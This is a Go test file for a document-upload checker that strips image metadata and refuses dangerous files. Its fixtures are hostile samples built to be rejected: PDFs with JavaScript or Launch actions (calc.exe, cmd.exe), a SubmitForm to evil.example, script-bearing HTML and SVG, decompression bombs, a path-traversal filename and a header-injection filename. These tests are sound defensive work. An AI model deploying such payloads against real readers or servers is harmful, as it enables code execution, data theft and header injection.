package portal

import (
	"bytes"
	"compress/zlib"
	"crypto/md5"
	"crypto/rc4"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"math/rand/v2"
	"strings"
	"sync"
	"testing"
	"unicode"
)

// testImage is a w×h picture with a gradient, so that an encoder has real
// pixels to work with.
func testImage(w, h int) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			img.Set(x, y, color.RGBA{uint8(x * 255 / w), uint8(y * 255 / h), 128, 255})
		}
	}
	return img
}

func testJPEG(t testing.TB, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, testImage(w, h), &jpeg.Options{Quality: 80}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func testPNG(t testing.TB, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, testImage(w, h)); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// exifAPP1 builds an APP1 segment by hand: a big-endian TIFF with IFD0
// holding the orientation and a pointer to a GPS IFD with latitude and
// longitude (reference letters and rationals), the way phones write them.
func exifAPP1(orientation uint16) []byte {
	be := binary.BigEndian
	var tiff bytes.Buffer
	w16 := func(v uint16) { _ = binary.Write(&tiff, be, v) }
	w32 := func(v uint32) { _ = binary.Write(&tiff, be, v) }
	tiff.WriteString("MM")
	w16(42)
	w32(8) // IFD0 at 8
	// IFD0: 2 entries, then next-IFD 0. Size 2+2*12+4 = 30, so the GPS IFD is at 38.
	w16(2)
	w16(0x0112) // Orientation
	w16(3)      // SHORT
	w32(1)
	w16(orientation)
	w16(0)
	w16(0x8825) // GPSInfo IFD pointer
	w16(4)      // LONG
	w32(1)
	w32(38)
	w32(0)
	// GPS IFD at 38: 4 entries (2+48+4 = 54 bytes), rationals follow at 92.
	w16(4)
	w16(0x0001) // GPSLatitudeRef "N"
	w16(2)
	w32(2)
	tiff.WriteString("N\x00\x00\x00")
	w16(0x0002) // GPSLatitude, 3 rationals at 92
	w16(5)
	w32(3)
	w32(92)
	w16(0x0003) // GPSLongitudeRef "E"
	w16(2)
	w32(2)
	tiff.WriteString("E\x00\x00\x00")
	w16(0x0004) // GPSLongitude, 3 rationals at 116
	w16(5)
	w32(3)
	w32(116)
	w32(0)
	for _, v := range []uint32{39, 1, 54, 1, 2715, 100, 116, 1, 23, 1, 2907, 100} { // 39°54'27.15"N 116°23'29.07"E
		w32(v)
	}
	payload := append([]byte("Exif\x00\x00"), tiff.Bytes()...)
	seg := []byte{0xFF, 0xE1, 0, 0}
	be.PutUint16(seg[2:], uint16(len(payload)+2))
	return append(seg, payload...)
}

// withEXIF puts an EXIF APP1 segment with GPS right after a JPEG's SOI, plus
// a comment naming the camera.
func withEXIF(jpg []byte, orientation uint16) []byte {
	com := []byte("Canon EOS secret camera serial 12345")
	comSeg := append([]byte{0xFF, 0xFE, byte((len(com) + 2) >> 8), byte(len(com) + 2)}, com...)
	out := append([]byte{}, jpg[:2]...)
	out = append(out, exifAPP1(orientation)...)
	out = append(out, comSeg...)
	return append(out, jpg[2:]...)
}

// pngChunk encodes one PNG chunk with its CRC.
func pngChunk(typ string, data []byte) []byte {
	var b bytes.Buffer
	_ = binary.Write(&b, binary.BigEndian, uint32(len(data)))
	b.WriteString(typ)
	b.Write(data)
	_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(typ), data...)))
	return b.Bytes()
}

// withTextChunks inserts tEXt, iTXt and zTXt chunks after a PNG's IHDR.
func withTextChunks(p []byte) []byte {
	ihdrEnd := 8 + 8 + 13 + 4
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	_, _ = zw.Write([]byte("compressed secret"))
	_ = zw.Close()
	extra := bytes.Join([][]byte{
		pngChunk("tEXt", []byte("Author\x00Secret Author Name")),
		pngChunk("iTXt", []byte("XML:com.adobe.xmp\x00\x00\x00\x00\x00<x:xmpmeta>GPSLatitude</x:xmpmeta>")),
		pngChunk("zTXt", append([]byte("Comment\x00\x00"), z.Bytes()...)),
	}, nil)
	out := append([]byte{}, p[:ihdrEnd]...)
	out = append(out, extra...)
	return append(out, p[ihdrEnd:]...)
}

// buildPDF writes a classic PDF with a correct cross-reference table: objs[i]
// is the body of object i+1.
func buildPDF(objs []string, trailer string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, trailer, xref)
	return b.Bytes()
}

const pdfContent = "BT /F1 12 Tf 72 720 Td (Hello) Tj ET"

// pdfWith returns a one-page PDF whose catalogue has extra entries and that
// has further objects (numbered from 5).
func pdfWith(catalog string, more ...string) []byte {
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R " + catalog + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(pdfContent), pdfContent),
	}
	return buildPDF(append(objs, more...), "")
}

// pdfObjectStream writes a PDF 1.5 whose catalogue and an OpenAction
// JavaScript action live only in a Flate-compressed object stream, indexed
// by a cross-reference stream: no byte of the file spells "JavaScript".
func pdfObjectStream(t testing.TB, action string) []byte {
	t.Helper()
	packed := []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", // object 1
		action, // object 5
	}
	nums := []int{1, 5}
	var head, body bytes.Buffer
	for i, o := range packed {
		fmt.Fprintf(&head, "%d %d ", nums[i], body.Len())
		body.WriteString(o + "\n")
	}
	raw := append(head.Bytes(), body.Bytes()...)
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	_, _ = zw.Write(raw)
	_ = zw.Close()

	var b bytes.Buffer
	b.WriteString("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
	off := map[int]int{}
	obj := func(n int, s string) {
		off[n] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", n, s)
	}
	obj(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	obj(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>")
	obj(4, fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(pdfContent), pdfContent))
	off[6] = b.Len()
	fmt.Fprintf(&b, "6 0 obj\n<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n", head.Len(), z.Len())
	b.Write(z.Bytes())
	b.WriteString("\nendstream\nendobj\n")
	off[7] = b.Len()
	// Cross-reference stream, W [1 4 2], entries 0..7.
	var xr bytes.Buffer
	entry := func(typ byte, f2 uint32, f3 uint16) {
		xr.WriteByte(typ)
		_ = binary.Write(&xr, binary.BigEndian, f2)
		_ = binary.Write(&xr, binary.BigEndian, f3)
	}
	entry(0, 0, 65535)
	entry(2, 6, 0) // 1 in object stream 6, index 0
	entry(1, uint32(off[2]), 0)
	entry(1, uint32(off[3]), 0)
	entry(1, uint32(off[4]), 0)
	entry(2, 6, 1) // 5 in object stream 6, index 1
	entry(1, uint32(off[6]), 0)
	entry(1, uint32(off[7]), 0)
	fmt.Fprintf(&b, "7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n", xr.Len())
	b.Write(xr.Bytes())
	fmt.Fprintf(&b, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", off[7])
	return b.Bytes()
}

// pdfPadding is the password padding of the standard security handler.
var pdfPadding = []byte("\x28\xBF\x4E\x5E\x4E\x75\x8A\x41\x64\x00\x4E\x56\xFF\xFA\x01\x08\x2E\x2E\x00\xB6\xD0\x68\x3E\x80\x2F\x0C\xA9\xFE\x64\x53\x69\x7A")

// encryptedPDF writes a PDF with a standard security handler (revision 2,
// RC4 40 bit). With openable set, the /U entry is computed for the empty user
// password (algorithms 2 and 4 of ISO 32000-1, 7.6.3.3), so the file opens
// without asking, as many "protected" PDFs do; otherwise /U matches no
// password we have.
func encryptedPDF(t testing.TB, openable bool) []byte {
	t.Helper()
	id := []byte("0123456789abcdef")
	o := bytes.Repeat([]byte{0x42}, 32)
	const p = int32(-4)
	u := bytes.Repeat([]byte{0x17}, 32)
	if openable {
		h := md5.New()
		h.Write(pdfPadding)
		h.Write(o)
		_ = binary.Write(h, binary.LittleEndian, p)
		h.Write(id)
		key := h.Sum(nil)[:5]
		c, err := rc4.NewCipher(key)
		if err != nil {
			t.Fatal(err)
		}
		c.XORKeyStream(u, pdfPadding)
	}
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>",
		fmt.Sprintf("<< /Filter /Standard /V 1 /R 2 /Length 40 /O <%x> /U <%x> /P %d >>", o, u, p),
	}
	return buildPDF(objs, fmt.Sprintf("/Encrypt 4 0 R /ID [<%x> <%x>] ", id, id))
}

func uploadKey(err error) string {
	var pe *Error
	if errors.As(err, &pe) {
		return pe.Key
	}
	if err != nil {
		return "non-portal error: " + err.Error()
	}
	return ""
}

func TestCheckUploadTypesAndRefusals(t *testing.T) {
	jpg, pngb := testJPEG(t, 64, 48), testPNG(t, 64, 48)
	plain := pdfWith("")
	tests := []struct {
		name, file string
		data       []byte
		wantMedia  string
		wantKey    string
	}{
		{"jpeg", "photo.jpg", jpg, MediaJPEG, ""},
		{"png", "scan.png", pngb, MediaPNG, ""},
		{"plain pdf", "judgment.pdf", plain, MediaPDF, ""},
		{"pdf named jpg is typed by content", "photo.jpg", plain, MediaPDF, ""},
		{"jpeg named pdf is typed by content", "letter.pdf", jpg, MediaJPEG, ""},
		{"pdf with a GoTo open action", "a.pdf", pdfWith("/OpenAction [3 0 R /Fit]"), MediaPDF, ""},
		{"pdf with a link", "a.pdf", pdfWith("", "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.org/) >> >>"), MediaPDF, ""},
		{"empty", "a.pdf", nil, "", keyUploadEmpty},
		{"too big", "a.pdf", append([]byte("%PDF-1.4\n"), make([]byte, MaxDocumentBytes)...), "", keyUploadTooBig},
		{"html", "a.pdf", []byte("<!DOCTYPE html><html><script>alert(1)</script></html>"), "", keyUploadType},
		{"svg", "a.png", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "", keyUploadType},
		{"zip", "a.pdf", []byte("PK\x03\x04\x14\x00\x00\x00\x08\x00" + strings.Repeat("\x00", 40)), "", keyUploadType},
		{"exe", "a.jpg", append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"), make([]byte, 100)...), "", keyUploadType},
		{"text", "a.pdf", []byte("just some text"), "", keyUploadType},
		{"gif", "a.png", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "", keyUploadType},
		{"html hiding a pdf header", "a.pdf", append([]byte("<html><script>alert(1)</script>"), plain...), "", keyUploadMalformed},
		{"truncated jpeg", "a.jpg", jpg[:len(jpg)/2], "", keyUploadMalformed},
		{"jpeg header only", "a.jpg", jpg[:20], "", keyUploadMalformed},
		{"truncated png", "a.png", pngb[:len(pngb)-30], "", keyUploadMalformed},
		{"png with bad crc", "a.png", flipByte(pngb, 40), "", keyUploadMalformed},
		{"malformed pdf", "a.pdf", []byte("%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"), "", keyUploadMalformed},
		{"truncated pdf", "a.pdf", plain[:len(plain)/2], "", keyUploadMalformed},
		{"pdf header and garbage", "a.pdf", []byte("%PDF-1.7\n" + strings.Repeat("garbage ", 50)), "", keyUploadMalformed},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d, clean, err := CheckUpload(tc.file, tc.data)
			if got := uploadKey(err); got != tc.wantKey {
				t.Fatalf("key = %q, want %q (err %v)", got, tc.wantKey, err)
			}
			if tc.wantKey != "" {
				var pe *Error
				if !errors.As(err, &pe) || pe.Code != CodeInvalid || pe.Fields["file"] != tc.wantKey {
					t.Fatalf("error = %#v, want invalid with field file", err)
				}
				if clean != nil {
					t.Fatal("refused upload returned bytes")
				}
				return
			}
			if d.MediaType != tc.wantMedia || d.Size != len(clean) || len(clean) == 0 {
				t.Fatalf("doc = %+v (%d bytes), want %s", d, len(clean), tc.wantMedia)
			}
		})
	}
}

func flipByte(b []byte, i int) []byte {
	out := bytes.Clone(b)
	out[i] ^= 0xFF
	return out
}

func TestCheckUploadStripsJPEGMetadata(t *testing.T) {
	orig := withEXIF(testJPEG(t, 120, 80), 1)
	for _, marker := range []string{"Exif", "Canon EOS"} {
		if !bytes.Contains(orig, []byte(marker)) {
			t.Fatalf("test file lacks %q", marker)
		}
	}
	if o := jpegOrientation(orig); o != 1 {
		t.Fatalf("orientation = %d", o)
	}
	d, clean, err := CheckUpload("IMG_0001.JPG", orig)
	if err != nil {
		t.Fatal(err)
	}
	if d.MediaType != MediaJPEG || d.Name != "IMG_0001.JPG" {
		t.Fatalf("doc = %+v", d)
	}
	for _, marker := range [][]byte{[]byte("Exif"), []byte("Canon EOS"), {0x88, 0x25}, {0xFF, 0xE1}, {0xFF, 0xFE}} {
		if bytes.Contains(clean, marker) {
			t.Errorf("cleaned JPEG still contains %q", marker)
		}
	}
	img, err := jpeg.Decode(bytes.NewReader(clean))
	if err != nil {
		t.Fatalf("cleaned JPEG does not decode: %v", err)
	}
	if b := img.Bounds(); b.Dx() != 120 || b.Dy() != 80 {
		t.Fatalf("cleaned JPEG is %v, want 120×80", b)
	}
}

// A phone photo taken upright is stored sideways with orientation 6; once
// the tag is gone the pixels themselves must be turned.
func TestCheckUploadAppliesEXIFOrientation(t *testing.T) {
	for o, want := range map[uint16][2]int{1: {120, 80}, 3: {120, 80}, 6: {80, 120}, 8: {80, 120}} {
		_, clean, err := CheckUpload("p.jpg", withEXIF(testJPEG(t, 120, 80), o))
		if err != nil {
			t.Fatal(err)
		}
		cfg, err := jpeg.DecodeConfig(bytes.NewReader(clean))
		if err != nil || cfg.Width != want[0] || cfg.Height != want[1] {
			t.Errorf("orientation %d: %dx%d (%v), want %v", o, cfg.Width, cfg.Height, err, want)
		}
	}
	// Orientation 6 turns clockwise: the source's bottom-left corner ends up
	// top-left.
	src := image.NewRGBA(image.Rect(0, 0, 3, 2))
	src.Set(0, 1, color.RGBA{255, 0, 0, 255})
	got := orient(src, 6).(*image.RGBA)
	if got.Bounds().Dx() != 2 || got.RGBAAt(0, 0) != (color.RGBA{255, 0, 0, 255}) {
		t.Fatalf("orient 6 = %v, pixel %v", got.Bounds(), got.RGBAAt(0, 0))
	}
}

func TestCheckUploadStripsPNGText(t *testing.T) {
	orig := withTextChunks(testPNG(t, 50, 30))
	if _, err := png.Decode(bytes.NewReader(orig)); err != nil {
		t.Fatalf("test file does not decode: %v", err)
	}
	_, clean, err := CheckUpload("scan.png", orig)
	if err != nil {
		t.Fatal(err)
	}
	for _, marker := range []string{"tEXt", "iTXt", "zTXt", "Secret Author", "xmpmeta"} {
		if bytes.Contains(clean, []byte(marker)) {
			t.Errorf("cleaned PNG still contains %q", marker)
		}
	}
	img, err := png.Decode(bytes.NewReader(clean))
	if err != nil || img.Bounds().Dx() != 50 || img.Bounds().Dy() != 30 {
		t.Fatalf("cleaned PNG: %v %v", img, err)
	}
}

// A tiny file declaring a huge canvas is refused from its header, before any
// pixel buffer is allocated.
func TestCheckUploadRefusesDecompressionBombs(t *testing.T) {
	p := testPNG(t, 1, 1)
	ihdr := bytes.Clone(p[16:29])
	binary.BigEndian.PutUint32(ihdr[0:], 50000)
	binary.BigEndian.PutUint32(ihdr[4:], 50000)
	bomb := append(append(bytes.Clone(p[:8]), pngChunk("IHDR", ihdr)...), p[33:]...)
	if _, _, err := CheckUpload("bomb.png", bomb); uploadKey(err) != keyImageTooBig {
		t.Fatalf("png bomb: %v", err)
	}
	j := testJPEG(t, 8, 8)
	i := bytes.Index(j, []byte{0xFF, 0xC0}) // SOF0: length(2) precision(1) height(2) width(2)
	if i < 0 {
		t.Fatal("no SOF0")
	}
	j = bytes.Clone(j)
	binary.BigEndian.PutUint16(j[i+5:], 65000)
	binary.BigEndian.PutUint16(j[i+7:], 65000)
	if _, _, err := CheckUpload("bomb.jpg", j); uploadKey(err) != keyImageTooBig {
		t.Fatalf("jpeg bomb: %v", err)
	}
}

func TestCheckUploadRefusesActivePDFs(t *testing.T) {
	embedded := "<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream"
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"open action javascript", pdfWith("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), keyPDFActive},
		{"open action javascript by reference", pdfWith("/OpenAction 5 0 R", "<< /S /JavaScript /JS 6 0 R >>", "<< /Length 11 >>\nstream\napp.alert()\nendstream"), keyPDFActive},
		{"javascript name tree", pdfWith("/Names << /JavaScript 5 0 R >>", "<< /Names [(x) << /S /JavaScript /JS (1) >>] >>"), keyPDFActive},
		{"hex-escaped name", pdfWith("/OpenAction << /S /J#61vaScript /J#53 (1) >>"), keyPDFActive},
		{"launch", pdfWith("/OpenAction << /S /Launch /F (calc.exe) >>"), keyPDFActive},
		{"page additional action launch", pdfWith("", "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /AA << /E << /S /Launch /F (cmd.exe) >> >> >>"), keyPDFActive},
		{"embedded files", pdfWith("/Names << /EmbeddedFiles << /Names [(a.txt) 5 0 R] >> >>", "<< /Type /Filespec /F (a.txt) /EF << /F 6 0 R >> >>", embedded), keyPDFActive},
		{"file attachment annotation", pdfWith("", "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] /FS 6 0 R >>", "<< /Type /Filespec /F (a.txt) >>"), keyPDFActive},
		{"xfa form", pdfWith("/AcroForm << /Fields [] /XFA 5 0 R >>", "<< /Length 4 >>\nstream\n<a/>\nendstream"), keyPDFActive},
		{"rich media", pdfWith("", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"), keyPDFActive},
		{"submit form", pdfWith("/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"), keyPDFActive},
		{"javascript hidden in an object stream", pdfObjectStream(t, "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), keyPDFActive},
		{"object stream without script", pdfObjectStream(t, "<< /S /GoTo /D [3 0 R /Fit] >>"), ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, _, err := CheckUpload("x.pdf", tc.data)
			if got := uploadKey(err); got != tc.want {
				t.Fatalf("key = %q, want %q (err %v)", got, tc.want, err)
			}
		})
	}
	if bytes.Contains(pdfObjectStream(t, "<< /S /JavaScript /JS (1) >>"), []byte("JavaScript")) {
		t.Fatal("the object stream test file spells JavaScript in clear")
	}
}

func TestCheckUploadRefusesEncryptedPDFs(t *testing.T) {
	for _, openable := range []bool{false, true} {
		_, _, err := CheckUpload("e.pdf", encryptedPDF(t, openable))
		if uploadKey(err) != keyPDFEncrypted {
			t.Fatalf("openable %v: %v", openable, err)
		}
		// The openable file is read (pdfcpu authenticates the empty user
		// password) and refused afterwards; the other fails to read.
		if cause := errors.Unwrap(err); (cause == nil) != openable {
			t.Errorf("openable %v: cause %v", openable, cause)
		}
	}
}

// Uploads are checked concurrently by the server; pdfcpu and the decoders
// must not share state between them (run with -race).
func TestCheckUploadConcurrent(t *testing.T) {
	files := [][]byte{pdfWith(""), pdfObjectStream(t, "<< /S /JavaScript /JS (1) >>"), testPNG(t, 20, 20), withEXIF(testJPEG(t, 20, 20), 6), encryptedPDF(t, true)}
	want := []string{"", keyPDFActive, "", "", keyPDFEncrypted}
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 5 {
				k := (g + i) % len(files)
				if _, _, err := CheckUpload("f", files[k]); uploadKey(err) != want[k] {
					t.Errorf("file %d: %v", k, err)
				}
			}
		}()
	}
	wg.Wait()
}

func TestDocumentName(t *testing.T) {
	tests := []struct{ in, media, want string }{
		{"身份证 正面.jpg", MediaJPEG, "身份证 正面.jpg"},
		{"C:\\Users\\张三\\判决书.pdf", MediaPDF, "判决书.pdf"},
		{"../../etc/passwd", MediaPDF, "passwd.pdf"},
		{"a\r\nSet-Cookie: x=1\".pdf", MediaPDF, "a Set-Cookie x=1.pdf"},
		{"photo.jpg", MediaPDF, "photo.pdf"},
		{"scan.JPEG", MediaJPEG, "scan.JPEG"},
		{"report", MediaPNG, "report.png"},
		{"", MediaPDF, "document.pdf"},
		{"...", MediaPDF, "document.pdf"},
		{"a\u202Egpj.exe", MediaJPEG, "agpj.exe.jpg"},
		{"tab\there.pdf", MediaPDF, "tab here.pdf"},
		{strings.Repeat("长", 300) + ".pdf", MediaPDF, strings.Repeat("长", MaxDocumentNameRunes-4) + ".pdf"},
		{"bad\xffutf8.png", MediaPNG, "badutf8.png"},
		{"x." + strings.Repeat("e", 200), "", "x." + strings.Repeat("e", MaxDocumentNameRunes-2)},
	}
	for _, tc := range tests {
		if got := DocumentName(tc.in, tc.media); got != tc.want {
			t.Errorf("DocumentName(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// checkNameSafe fails when a display name could break a header or a path.
func checkNameSafe(t *testing.T, name string) {
	t.Helper()
	if name == "" || len([]rune(name)) > MaxDocumentNameRunes {
		t.Fatalf("bad name length %q", name)
	}
	for _, r := range name {
		if unicode.IsControl(r) || strings.ContainsRune("\"\\/;\r\n", r) || r == 0xFFFD && !strings.Contains(name, "\uFFFD") {
			t.Fatalf("unsafe rune %q in name %q", r, name)
		}
	}
}

// noisyJPEG is a w×h photo-like JPEG (noise over a gradient), the kind of
// file a phone produces, of roughly the size the benchmark needs.
func noisyJPEG(t testing.TB, w, h int) []byte {
	img := testImage(w, h)
	r := rand.New(rand.NewPCG(1, 2))
	for i := range img.Pix {
		if i%4 != 3 {
			img.Pix[i] = uint8(int(img.Pix[i]) + r.IntN(40) - 20)
		}
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: 92}); err != nil {
		t.Fatal(err)
	}
	return withEXIF(b.Bytes(), 1)
}

func BenchmarkCheckUploadJPEG2MB(b *testing.B) {
	data := noisyJPEG(b, 2200, 1650)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, _, err := CheckUpload("p.jpg", data); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(len(data))/(1<<20), "MB/file")
}

func BenchmarkCheckUploadPDF(b *testing.B) {
	data := pdfWith("")
	for b.Loop() {
		if _, _, err := CheckUpload("p.pdf", data); err != nil {
			b.Fatal(err)
		}
	}
}
